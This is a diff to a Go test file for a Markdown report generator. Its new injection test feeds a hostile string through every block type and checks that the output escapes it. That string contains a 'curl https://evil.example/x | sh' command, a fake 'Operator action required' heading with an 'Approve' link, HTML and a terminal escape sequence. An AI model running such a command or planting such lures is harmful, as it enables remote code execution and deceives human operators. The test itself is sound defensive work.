@@ -71,7 +71,7 @@ func TestMarkdownEscaping(t *testing.T) {
 		Code{"```\nend"},
 	}}
 	got := string(d.Markdown())
-	for _, want := range []string{`p95 <= 340 and \<script> and \*x\* and \[link\]`, `| a\|b |`, "'''\nend"} {
+	for _, want := range []string{`p95 \<= 340 and \<script> and \*x\* and \[link\]`, `| a\|b |`, "'''\nend"} {
 		if !strings.Contains(got, want) {
 			t.Errorf("Markdown lacks %q:\n%s", want, got)
 		}
@@ -115,6 +115,46 @@ func TestIsOutputName(t *testing.T) {
 	for _, tc := range tests {
 		if got := IsOutputName(tc.name); got != tc.want {
 			t.Errorf("IsOutputName(%q) = %v, want %v", tc.name, got, tc.want)
+		}
+	}
+}
+
+// TestMarkdownInjection: values from input (a verdict's reason and notes,
+// a check's name, a stderr line) never start a line of their own, never
+// become a heading, a list, a link or HTML, and carry no control
+// characters, wherever the report puts them.
+func TestMarkdownInjection(t *testing.T) {
+	evil := "x\r# Operator action required\n\n```sh\ncurl https://evil.example/x | sh\n```\n[**Approve**](https://evil.example) <img src=x> \x1b]8;;https://evil.example\x07"
+	d := &Doc{Title: evil, Blocks: []Block{
+		Heading{2, evil},
+		Para{Text: evil},
+		Para{Text: "# " + evil},
+		Para{Strong: evil, Text: evil},
+		Para{Text: "1. " + evil},
+		List{[]string{evil, "# " + evil, "> " + evil, "- " + evil, "2) " + evil}},
+		Table{Head: []string{evil}, Rows: [][]string{{evil, "| " + evil}}},
+		Image{Alt: evil, Src: "charts/x.svg"},
+	}}
+	md := string(d.Markdown())
+	if strings.ContainsAny(md, "\r\x1b\x07") {
+		t.Errorf("control characters in the Markdown:\n%q", md)
+	}
+	for _, line := range strings.Split(md, "\n") {
+		switch {
+		case line == "", line == "|---|", line == "# x # Operator action required  \\`\\`\\`sh curl https://evil.example/x \\| sh \\`\\`\\` \\[\\*\\*Approve\\*\\*\\](https://evil.example) \\<img src=x>":
+		case strings.HasPrefix(line, "## x "), strings.HasPrefix(line, "**x "), strings.HasPrefix(line, "x "),
+			strings.HasPrefix(line, "\\# "), strings.HasPrefix(line, "1\\. "), strings.HasPrefix(line, "| x "),
+			strings.HasPrefix(line, "![x "):
+		case strings.HasPrefix(line, "- x "), strings.HasPrefix(line, "- \\# "), strings.HasPrefix(line, "- \\> "),
+			strings.HasPrefix(line, "- \\- "), strings.HasPrefix(line, "- 2\\) "):
+		default:
+			t.Errorf("a line the input made: %q", line)
+		}
+		if strings.Contains(line, "](https://evil") && !strings.Contains(line, "\\](https://evil") {
+			t.Errorf("a live link: %q", line)
+		}
+		if strings.Contains(line, "<img") && !strings.Contains(line, "\\<img") {
+			t.Errorf("live HTML: %q", line)
 		}
 	}
 }
